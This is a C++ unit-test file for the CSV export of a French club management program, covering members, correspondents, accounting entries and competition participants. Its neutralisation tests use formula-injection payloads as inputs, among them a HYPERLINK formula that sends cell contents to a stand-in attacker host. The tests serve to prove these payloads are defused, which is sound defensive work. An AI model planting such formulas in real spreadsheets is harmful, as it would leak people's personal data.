// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/tableur_ecriture.h"
#include "model/colonnes_tableur.h"
#include "model/export_tableur.h"
#include "outils_modele.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <sstream>

using namespace tramonta;

namespace {

// The rows of a file that these exports write (CRLF between rows, quoted
// fields may hold line ends), each split into its fields.
std::vector<std::vector<std::string>> Lire(const std::string& fichier) {
    EXPECT_EQ(fichier.substr(0, 3), "\xEF\xBB\xBF");
    std::vector<std::vector<std::string>> lignes(1);
    std::string champ;
    bool cite = false;
    std::vector<std::string> courante;
    for (std::size_t i = 3; i < fichier.size(); ++i) {
        const char c = fichier[i];
        if (cite) {
            if (c == '"' && i + 1 < fichier.size() && fichier[i + 1] == '"') {
                champ += '"';
                ++i;
            } else if (c == '"') {
                cite = false;
            } else {
                champ += c;
            }
        } else if (c == '"') {
            cite = true;
        } else if (c == ';') {
            courante.push_back(champ);
            champ.clear();
        } else if (c == '\r' && i + 1 < fichier.size() && fichier[i + 1] == '\n') {
            courante.push_back(champ);
            champ.clear();
            lignes.back() = courante;
            courante.clear();
            lignes.emplace_back();
            ++i;
        } else {
            champ += c;
        }
    }
    EXPECT_TRUE(lignes.back().empty() && champ.empty()) << "the last row has no line end";
    lignes.pop_back();
    return lignes;
}

class ExportTableur : public testing::Test {
  protected:
    test::HorlogeFixe horloge{EncodeDate(2024, 9, 1) + 0.5};
    TExercice exercice;
};

TEST_F(ExportTableur, AdherentsTitresDeLaFicheEtUneLigne) {
    auto a = std::make_unique<TAdherent>(&exercice.Adherents());
    a->SetNom("Le Gall; dit \"Vague\"");
    a->SetPrenom("Hélène");
    a->SetSexe("F");
    a->SetDateNaissance(EncodeDate(2010, 4, 7));
    a->SetLieuNaissance("Brest");
    a->SetAdresse("1 rue du Port\r\nBâtiment B");
    a->SetCodePostal(6000);
    a->SetVille("Nice");
    a->SetTel1("06-01-02-03-04");
    a->SetNumeroLicence("L123");
    a->SetCertificatMedical(true);
    a->SetLicenceCompet(true);
    a->SetClassement(12);
    a->SetMontantLicence(45.5);
    a->SetLicenceEnCompta(true);
    a->SetArticleLicence("706");
    a->SetCautionCombinaison(150);
    a->SetForfaitLecon(80.25);
    a->SetComplement("rien");
    a->SetInformationsComplementaires("Allergie");
    exercice.Adherents().Add(std::move(a));
    exercice.Adherents().Add(std::make_unique<TAdherent>(&exercice.Adherents()));
    std::ostringstream sortie;
    ExporterAdherents(TousLesAdherents(exercice.Adherents()), sortie);
    const auto lignes = Lire(sortie.str());
    ASSERT_EQ(lignes.size(), 3u);
    EXPECT_EQ(lignes[0], (std::vector<std::string>{"Nom",
                                                   "Prénom",
                                                   "Sexe",
                                                   "Date de naissance",
                                                   "Categorie",
                                                   "Lieu de naissance",
                                                   "Adresse",
                                                   "Code postal",
                                                   "Ville",
                                                   "Tél. 1",
                                                   "Tél. 2",
                                                   "N° licence",
                                                   "Date de délivrance",
                                                   "Certificat médical",
                                                   "Licence compétition",
                                                   "Classement",
                                                   "Licence dirigeant",
                                                   "Montant licence",
                                                   "Caution combinaison",
                                                   "Location combinaison",
                                                   "Forfait leçons",
                                                   "Autre",
                                                   "Informations complémentaires"}));
    EXPECT_EQ(lignes[1], (std::vector<std::string>{"Le Gall; dit \"Vague\"",
                                                   "Hélène",
                                                   "F",
                                                   "07/04/2010",
                                                   "Ondine",
                                                   "Brest",
                                                   "1 rue du Port\r\nBâtiment B",
                                                   "06000",
                                                   "Nice",
                                                   "06-01-02-03-04",
                                                   "",
                                                   "L123",
                                                   "",
                                                   "Oui",
                                                   "Oui",
                                                   "12",
                                                   "Non",
                                                   "45,5",
                                                   "150",
                                                   "0",
                                                   "80,25",
                                                   "rien",
                                                   "Allergie"}));
    // A member with nothing typed: no date, no category, no postal code.
    EXPECT_EQ(lignes[2][3], "");
    EXPECT_EQ(lignes[2][4], "");
    EXPECT_EQ(lignes[2][7], "");
    EXPECT_EQ(lignes[2][15], "");
}

TEST_F(ExportTableur, LesSommesNeDisentPasSiEllesSontEnCompta) {
    for (const auto& c : ColonnesAdherents()) {
        const std::string t = c.titre;
        EXPECT_EQ(t.find("ompta"), std::string::npos) << t;
        EXPECT_EQ(t.find("rticle"), std::string::npos) << t;
    }
}

TEST_F(ExportTableur, ChaqueColonneRelueRedonneLeChamp) {
    TAdherent source(nullptr);
    source.SetNom("Œuvray");
    source.SetPrenom("J\"o;");
    source.SetSexe("F");
    source.SetDateNaissance(EncodeDate(1980, 2, 29));
    source.SetAdresse("a\r\nb");
    source.SetCodePostal(29200);
    source.SetDateDelivrance(EncodeDate(2024, 9, 2));
    source.SetLicenceDirigeant(true);
    source.SetClassement(-3);
    source.SetLocationCombinaison(0.1);
    source.SetMontantLicence(1234567.89);
    TAdherent relu(nullptr);
    for (const auto& c : ColonnesAdherents())
        if (c.ecrire) {
            EXPECT_TRUE(c.ecrire(relu, c.lire(source))) << c.titre;
        }
    for (const auto& c : ColonnesAdherents())
        EXPECT_EQ(c.lire(relu), c.lire(source)) << c.titre;
    EXPECT_EQ(relu.MontantLicence(), 1234567.89);
    EXPECT_EQ(relu.CodePostal(), 29200);
}

struct CasEcriture {
    const char* titre;
    const char* texte;
    bool lu;
};

class EcritureAdherent : public testing::TestWithParam<CasEcriture> {};

// A text that cannot be read leaves the field as it was.
TEST_P(EcritureAdherent, UnTexteIllisibleLaisseLeChamp) {
    TAdherent a(nullptr);
    a.SetSexe("M");
    a.SetDateNaissance(EncodeDate(2000, 1, 1));
    a.SetCodePostal(33000);
    a.SetMontantLicence(10);
    a.SetClassement(5);
    a.SetCertificatMedical(true);
    const auto& colonnes = ColonnesAdherents();
    const auto c = std::find_if(colonnes.begin(), colonnes.end(),
                                [](const auto& c) { return std::string(c.titre) == GetParam().titre; });
    ASSERT_NE(c, colonnes.end());
    const std::string avant = c->lire(a);
    EXPECT_EQ(c->ecrire(a, GetParam().texte), GetParam().lu);
    if (!GetParam().lu) {
        EXPECT_EQ(c->lire(a), avant);
    }
}

INSTANTIATE_TEST_SUITE_P(Table, EcritureAdherent,
                         testing::Values(CasEcriture{"Sexe", "f", true}, CasEcriture{"Sexe", "Féminin", true},
                                         CasEcriture{"Sexe", "", true}, CasEcriture{"Sexe", "X", false},
                                         CasEcriture{"Date de naissance", "31/02/2000", false},
                                         CasEcriture{"Date de naissance", "2000-02-03", true},
                                         CasEcriture{"Code postal", "F-33000", false},
                                         CasEcriture{"Code postal", "-1", false},
                                         CasEcriture{"Montant licence", "dix", false},
                                         CasEcriture{"Montant licence", "1 000,5", true},
                                         CasEcriture{"Classement", "12,5", false},
                                         CasEcriture{"Certificat médical", "peut-être", false},
                                         CasEcriture{"Certificat médical", "Non", true}));

struct CasNeutralisation {
    const char* titre;
    std::function<void(TAdherent&)> remplir;
    const char* ecrit;
};

void PrintTo(const CasNeutralisation& c, std::ostream* os) {
    *os << c.titre << " → " << c.ecrit;
}

class Neutralisation : public testing::TestWithParam<CasNeutralisation> {};

// A text column never goes out as a formula that a spreadsheet would run,
// and reads back as it was; amounts and numbers go out as they are.
TEST_P(Neutralisation, ColonneValeurEcriteEtRelue) {
    const CasNeutralisation& cas = GetParam();
    TAdherent a(nullptr);
    cas.remplir(a);
    std::ostringstream sortie;
    ExporterAdherents({&a}, sortie);
    const auto lignes = Lire(sortie.str());
    ASSERT_EQ(lignes.size(), 2u);
    const auto& colonnes = ColonnesAdherents();
    const auto k = static_cast<std::size_t>(
        std::find_if(colonnes.begin(), colonnes.end(),
                     [&](const auto& c) { return c.titre == std::string(cas.titre); }) -
        colonnes.begin());
    ASSERT_LT(k, colonnes.size());
    EXPECT_EQ(lignes[1][k], cas.ecrit);
    TAdherent relu(nullptr);
    EXPECT_TRUE(colonnes[k].ecrire(relu, lignes[1][k]));
    for (const auto& c : colonnes)
        EXPECT_EQ(c.lire(relu), c.lire(a)) << c.titre;
}

INSTANTIATE_TEST_SUITE_P(
    Table, Neutralisation,
    testing::Values(
        CasNeutralisation{
            "Nom", [](TAdherent& a) { a.SetNom("=HYPERLINK(\"http://attaquant.example/?v=\"&B3&C3)"); },
            "'=HYPERLINK(\"http://attaquant.example/?v=\"&B3&C3)"},
        CasNeutralisation{"Prénom", [](TAdherent& a) { a.SetPrenom("'=1+1"); }, "''=1+1"},
        CasNeutralisation{"Prénom", [](TAdherent& a) { a.SetPrenom("'Ami"); }, "'Ami"},
        CasNeutralisation{"Adresse", [](TAdherent& a) { a.SetAdresse("-1 rue\r\n=2"); }, "'-1 rue\r\n=2"},
        CasNeutralisation{"Tél. 1", [](TAdherent& a) { a.SetTel1("+33 6 12 34 56 78"); },
                          "'+33 6 12 34 56 78"},
        CasNeutralisation{"Informations complémentaires",
                          [](TAdherent& a) { a.SetInformationsComplementaires("@SOMME(A1)"); },
                          "'@SOMME(A1)"},
        CasNeutralisation{"Ville", [](TAdherent& a) { a.SetVille("＝1"); }, "'＝1"},
        CasNeutralisation{"Lieu de naissance", [](TAdherent& a) { a.SetLieuNaissance("\tcmd"); }, "'\tcmd"},
        CasNeutralisation{"Classement", [](TAdherent& a) { a.SetClassement(-3); }, "-3"},
        CasNeutralisation{"Montant licence", [](TAdherent& a) { a.SetMontantLicence(-12.5); }, "-12,5"},
        CasNeutralisation{"Nom", [](TAdherent& a) { a.SetNom("Jean-Paul"); }, "Jean-Paul"}));

// The lists that are only written: the texts typed by the user are made
// harmless, the amounts stay numbers.
TEST_F(ExportTableur, EcrituresEtParticipantsNeutralisentLeursTextes) {
    TComptabilite& compta = exercice.Comptabilite();
    auto compte = std::make_unique<TCompte>(&compta);
    compte->SetArticle("=706");
    compte->SetIntitule("+Licences");
    auto l = std::make_unique<TLigneEcriture>(compte.get());
    l->SetLibelle("=HYPERLINK(\"http://attaquant.example\")");
    l->SetMontant(-45.5);
    l->SetTypePaiement(0);
    l->SetNumeroCheque("@1");
    compte->AjouterLigne(std::move(l));
    compta.AjouterCompteProduit(std::move(compte));
    std::ostringstream sortie;
    ExporterEcritures(compta, sortie);
    const auto lignes = Lire(sortie.str());
    ASSERT_EQ(lignes.size(), 2u);
    EXPECT_EQ(lignes[1], (std::vector<std::string>{"'=706", "'+Licences", "Produit", "01/09/2024",
                                                   "'=HYPERLINK(\"http://attaquant.example\")", "-45,5",
                                                   "Chèque", "'@1", "Non"}));

    TCompet compet;
    auto p = std::make_unique<TParticipantCompet>(compet.Categorie(0));
    p->SetNom("-Dupont");
    p->SetPrenom("=A1");
    p->SetClub("@club");
    compet.Categorie(0)->Add(std::move(p));
    std::ostringstream participants;
    ExporterParticipants(compet, participants);
    const auto lus = Lire(participants.str());
    ASSERT_EQ(lus.size(), 2u);
    EXPECT_EQ(std::vector<std::string>(lus[1].begin() + 2, lus[1].end()),
              (std::vector<std::string>{"'-Dupont", "'=A1", "'@club"}));
}

TEST_F(ExportTableur, LaCategorieNeSeRelitPas) {
    for (const auto& c : ColonnesAdherents())
        EXPECT_EQ(static_cast<bool>(c.ecrire), std::string(c.titre) != "Categorie") << c.titre;
}

TEST_F(ExportTableur, UnMemoReluSansCRRetrouveLesFinsDeLigneDuDocument) {
    TAdherent a(nullptr);
    for (const auto& c : ColonnesAdherents())
        if (std::string(c.titre) == "Adresse")
            c.ecrire(a, "1 rue\nBât. B\rEtage 2\r\nfin");
    EXPECT_EQ(a.Adresse(), "1 rue\r\nBât. B\r\nEtage 2\r\nfin");
}

TEST_F(ExportTableur, CorrespondantsTitresDeLaFicheEtUneLigne) {
    auto c = std::make_unique<TCorrespondant>(&exercice.Correspondants());
    c->SetNom("Mairie");
    c->SetAdresse("Place\r\ndu Marché");
    c->SetCodePostal(64200);
    c->SetVille("Biarritz");
    c->SetTel1("05-59-00-00-00");
    c->SetFax("05-59-00-00-01");
    c->SetEMail("mairie@example.org");
    c->SetSiteWeb("www.example.org");
    c->SetSpecialite("Mairie");
    c->SetInformationsComplementaires("Service des sports");
    exercice.Correspondants().Add(std::move(c));
    std::ostringstream sortie;
    ExporterCorrespondants(TousLesCorrespondants(exercice.Correspondants()), sortie);
    const auto lignes = Lire(sortie.str());
    ASSERT_EQ(lignes.size(), 2u);
    EXPECT_EQ(lignes[0],
              (std::vector<std::string>{"Nom", "Adresse", "Code postal", "Ville", "Tél. 1", "Tél. 2", "Fax.",
                                        "e-mail", "Site Web", "Spécialité", "Informations complémentaires"}));
    EXPECT_EQ(lignes[1],
              (std::vector<std::string>{"Mairie", "Place\r\ndu Marché", "64200", "Biarritz", "05-59-00-00-00",
                                        "", "05-59-00-00-01", "mairie@example.org", "www.example.org",
                                        "Mairie", "Service des sports"}));
}

TEST_F(ExportTableur, EcrituresChargesPuisProduitsChaqueCompteDansSonOrdre) {
    TComptabilite& compta = exercice.Comptabilite();
    auto compte = [&](const char* article, const char* intitule) {
        auto c = std::make_unique<TCompte>(&compta);
        c->SetArticle(article);
        c->SetIntitule(intitule);
        return c;
    };
    auto ligne = [](TCompte& c, const char* libelle, double montant, int type, const char* cheque) {
        auto l = std::make_unique<TLigneEcriture>(&c);
        l->SetLibelle(libelle);
        l->SetMontant(montant);
        l->SetTypePaiement(type);
        l->SetNumeroCheque(cheque);
        l->SetDate(EncodeDate(2024, 10, 3) + 0.4);
        c.AjouterLigne(std::move(l));
    };
    const int produit = compta.AjouterCompteProduit(compte("706", "Licences"));
    const int charge = compta.AjouterCompteCharge(compte("606", "Achats; fournitures"));
    ligne(*compta.GetCompteProduit(produit), "Licence de Le Gall Hélène", 45.5, 0, "1234567");
    compta.GetCompteProduit(produit)->GetLigne(0)->Automatique = true;
    ligne(*compta.GetCompteProduit(produit), "Licence de Martin Paul", 45, 1, "oublié");
    ligne(*compta.GetCompteCharge(charge), "Wax", 12.3, 2, "");
    std::ostringstream sortie;
    ExporterEcritures(compta, sortie);
    const auto lignes = Lire(sortie.str());
    ASSERT_EQ(lignes.size(), 4u);
    EXPECT_EQ(lignes[0],
              (std::vector<std::string>{"Compte", "Intitulé du compte", "Nature", "Date", "Libellé",
                                        "Montant", "Type de paiement", "N° chèque", "Automatique"}));
    EXPECT_EQ(lignes[1], (std::vector<std::string>{"606", "Achats; fournitures", "Charge", "03/10/2024",
                                                   "Wax", "12,3", "Virement", "", "Non"}));
    EXPECT_EQ(lignes[2],
              (std::vector<std::string>{"706", "Licences", "Produit", "03/10/2024",
                                        "Licence de Le Gall Hélène", "45,5", "Chèque", "1234567", "Oui"}));
    // The number kept from a cheque does not belong to a cash payment.
    EXPECT_EQ(lignes[3][6], "Espèces");
    EXPECT_EQ(lignes[3][7], "");
}

TEST_F(ExportTableur, ParticipantsCategorieParCategorieDansLOrdreDesTetesDeSerie) {
    TCompet compet;
    compet.SetIntitule("Coupe d'automne");
    auto participant = [&](int categorie, const char* nom, const char* prenom, const char* club) {
        auto p = std::make_unique<TParticipantCompet>(compet.Categorie(categorie));
        p->SetNom(nom);
        p->SetPrenom(prenom);
        p->SetClub(club);
        compet.Categorie(categorie)->Add(std::move(p));
    };
    participant(4, "Durand", "Luc", "Anglet Surf Club");
    participant(0, "Martin", "Léa", "Tramonta");
    participant(4, "Petit", "Noé", "Hossegor; section jeunes");
    std::ostringstream sortie;
    ExporterParticipants(compet, sortie);
    const auto lignes = Lire(sortie.str());
    ASSERT_EQ(lignes.size(), 4u);
    EXPECT_EQ(lignes[0], (std::vector<std::string>{"Catégorie", "Tête de série", "Nom", "Prénom", "Club"}));
    EXPECT_EQ(lignes[1], (std::vector<std::string>{"Benjamins", "1", "Martin", "Léa", "Tramonta"}));
    EXPECT_EQ(lignes[2], (std::vector<std::string>{"Open", "1", "Durand", "Luc", "Anglet Surf Club"}));
    EXPECT_EQ(lignes[3], (std::vector<std::string>{"Open", "2", "Petit", "Noé", "Hossegor; section jeunes"}));
}

TEST_F(ExportTableur, UnExportVideNaQueLesTitres) {
    std::ostringstream sortie;
    ExporterAdherents({}, sortie);
    EXPECT_EQ(Lire(sortie.str()).size(), 1u);
}

} // namespace
